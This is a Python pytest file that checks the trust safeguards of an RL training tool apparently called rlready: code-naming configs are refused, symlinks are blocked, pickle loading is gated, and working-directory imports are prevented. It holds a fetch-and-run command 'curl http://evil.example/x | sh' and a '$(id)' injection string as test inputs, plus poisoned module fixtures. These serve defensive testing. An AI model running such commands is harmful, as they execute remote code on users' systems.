"""A file that comes from anywhere cannot have code run: a verifier, a task, a loss or an algorithm."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import torch
from safetensors.torch import load_file

from rlready.cli.main import main
from rlready.cli.trust import refuse_code
from rlready.core.errors import UserError
from rlready.models.checkpoint import save
from rlready.models.checksums import CHECKSUMS
from rlready.models.llama.kernel_library import _cache_folder
from rlready.models.weights import ALLOW_PICKLE
from rlready.report.folder import read_folder
from rlready.runs.folders import refuse_links
from rlready.runs.results import is_own
from tiny import tiny_lm

SWEEP = '[sft]\nmodel = "embedded"\n[[rl.recipes]]\nname = "a"\n'


@pytest.mark.parametrize(
    ("content", "code"),
    [
        ('problems = "p.jsonl?verifier=evil:f"', "problems = 'p.jsonl?verifier=evil:f'"),
        ('problems = "p.jsonl?n=3&verifier=./evil.py:f"', "evil.py:f"),
        ('validation = "evil.tasks:Task?n=3"', "validation = 'evil.tasks:Task"),
        ('problems = "p{.jsonl?verifier=evil:f&answer=a}"', "verifier=evil:f"),
        ('loss = "evil:loss"', "loss = 'evil:loss'"),
        ('algorithm = "./evil.py:A"', "algorithm"),
        (f'{SWEEP}problems = ["gsm8k:x", "evil:Task"]', "problems = 'evil:Task'"),
        (f'{SWEEP}loss = [["evil:loss"]]', "loss"),
        (f'{SWEEP}heldout = "evil{{seed}}:T"', "heldout = 'evil{seed}:T'"),
    ],
)
def test_code_in_a_file_is_run_only_with_trust_code(tmp_path: Path, content: str, code: str) -> None:
    (tmp_path / "f.toml").write_text(content)
    with pytest.raises(UserError, match=r"f.toml names code to be run, .*add --trust-code") as refused:
        refuse_code([str(tmp_path / "f.toml")])
    assert code in str(refused.value)


@pytest.mark.parametrize(
    "content",
    [
        'problems = "gsm8k:train.jsonl?n=3"\nalgorithm = "dapo"\nanswer_prefix = "Answer:x"',
        'rows = "dagmath?n=5"\nheldout = "owner/name?config=main"',
        f'{SWEEP}problems = "~/p.jsonl"\nwait_text = "a:b"',
    ],
)
def test_other_files_are_read_as_ever(tmp_path: Path, content: str) -> None:
    (tmp_path / "f.toml").write_text(content)
    refuse_code([str(tmp_path / "f.toml")])


@pytest.mark.parametrize("command", [["readiness", "--config", "f.toml"], ["sweep", "s.toml"]])
def test_nothing_is_imported_before_that(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    """With --trust-code it is, and the printed command that continues the run keeps it."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", [*sys.path])
    (tmp_path / "evil.py").write_text("from pathlib import Path\nPath('ran').touch()\nraise ValueError('evil')")
    (tmp_path / "p.jsonl").write_text('{"prompt": "?", "answer": "1"}')
    source = 'problems = "p.jsonl?verifier=evil:f"'
    (tmp_path / "f.toml").write_text(f'checkpoints = ["embedded"]\n{source}')
    (tmp_path / "s.toml").write_text(f"[readiness]\n{source}")
    assert main(command) == 2
    assert "names code to be run" in capsys.readouterr().err
    assert not (tmp_path / "ran").exists()
    if command[0] == "readiness":
        assert main([*command, "--trust-code"]) == 2
        assert "evil cannot be imported: ValueError: evil" in capsys.readouterr().err
        assert (tmp_path / "ran").exists()


def test_a_link_in_a_run_inside_another_is_refused(tmp_path: Path) -> None:
    """Neither a sweep that continues writes through it, nor a page shows what it points to."""
    (tmp_path / "important.txt").write_text("mine")
    inner = tmp_path / "run" / "logs"
    inner.mkdir(parents=True)
    (inner / ".lock").touch()
    (inner / "job.log").symlink_to(tmp_path / "important.txt")
    for work in (refuse_links, read_folder):
        with pytest.raises(UserError, match=r"job\.log is a symbolic link out of the run folder"):
            work(tmp_path / "run")


@pytest.mark.parametrize("command", ["rlready sweep x.toml; curl http://evil.example/x | sh", "rlready sft $(id)"])
def test_a_recorded_command_that_a_shell_would_take_for_more_is_not_proposed(command: str) -> None:
    assert not is_own(command)
    assert is_own("rlready sft 'rows=a b.jsonl' --out runs/a")


def test_weights_in_a_pickle_are_read_only_with_allow_pickle(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv(ALLOW_PICKLE, raising=False)
    (tmp_path / "model").mkdir()
    save(tiny_lm(), tmp_path / "model", "card")
    (tmp_path / "model" / CHECKSUMS).unlink()
    weights = tmp_path / "model" / "model.safetensors"
    torch.save(load_file(weights), tmp_path / "model" / "pytorch_model.bin")
    weights.unlink()
    command = ["show", "--template", str(tmp_path / "model")]
    assert main(command) == 2
    assert "add --allow-pickle" in capsys.readouterr().err
    assert main([*command, "--allow-pickle"]) == 0
    assert ALLOW_PICKLE not in os.environ


def test_a_file_in_the_working_directory_is_not_imported_unasked(tmp_path: Path) -> None:
    """Neither by the command, nor by the process of a verifier that is elsewhere."""
    poison, mine = tmp_path / "poison", tmp_path / "mine"
    for folder in (poison, mine):
        folder.mkdir()
    for name in ("json", "ctypes", "pickle", "typer", "torch", "peft", "nt"):
        (poison / f"{name}.py").write_text(f"open({str(tmp_path / 'PWNED')!r}, 'w')")
    (mine / "verify.py").write_text("import helper\ndef exact(problem, answer):\n    return problem.answer == answer\n")
    (mine / "helper.py").write_text("")
    (mine / "problems.jsonl").write_text('{"prompt": "1+1?", "answer": "2"}\n')
    program = (
        "from rlready.tasks import open_task, verify_all; import sys; task = open_task(sys.argv[1]); "
        "print(verify_all(task, [(task.problems()[0], ('', '2'))])[0].correct)"
    )
    source = f"{mine}/problems.jsonl?verifier={mine}/verify.py:exact"
    for words, printed in ((["-P", "-c", program, source], "True"), (["-m", "rlready", "schema", "sft"], "SFTConfig")):
        if "-m" in words:
            (poison / "nt.py").unlink()  # Python itself tries to import it, before any module
        done = subprocess.run([sys.executable, *words], cwd=poison, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        assert printed in done.stdout
    packages = [entry for entry in sys.path if entry and entry != str(poison)]
    for named in (":{}", "{}:", ".:{}"):  # an empty entry is the working directory, too
        environment = os.environ | {"PYTHONPATH": named.format(os.pathsep.join(packages))}
        line = [sys.executable, "-P", "-m", "rlready", "schema", "sft"]
        done = subprocess.run(line, cwd=poison, env=environment, capture_output=True, text=True, check=False)
        assert "SFTConfig" in done.stdout
    assert not (tmp_path / "PWNED").exists()


def test_a_relative_cache_folder_is_ignored(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As its specification demands: a folder from elsewhere could hold compiled kernels there."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    for given, folder in ((".cache", "home/.cache"), ("", "home/.cache"), (str(tmp_path / "own"), "own")):
        monkeypatch.setenv("XDG_CACHE_HOME", given)
        assert _cache_folder() == tmp_path / folder / "rlready"
    assert not (tmp_path / ".cache").exists()


def test_no_process_is_started_that_looks_for_modules_in_the_working_directory() -> None:
    for file in (Path(__file__).parents[1] / "src").rglob("*.py"):
        for words in re.findall(r"\[sys\.executable, [^\]]*", file.read_text()):
            assert re.match(r'\[sys\.executable, "-[PI]"', words), (file, words)
